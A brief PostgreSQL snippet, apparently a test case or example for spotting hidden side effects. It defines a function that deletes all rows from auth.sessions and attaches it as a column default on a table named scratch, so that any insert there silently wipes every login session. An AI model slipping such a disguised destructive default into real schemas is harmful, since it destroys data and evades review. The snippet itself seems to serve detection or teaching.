-- A function in a default is run by an insert.
-- object: table auth.sessions
CREATE FUNCTION helper() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM auth.sessions; RETURN 1; END $$;
ALTER TABLE scratch ADD COLUMN extra int DEFAULT helper()
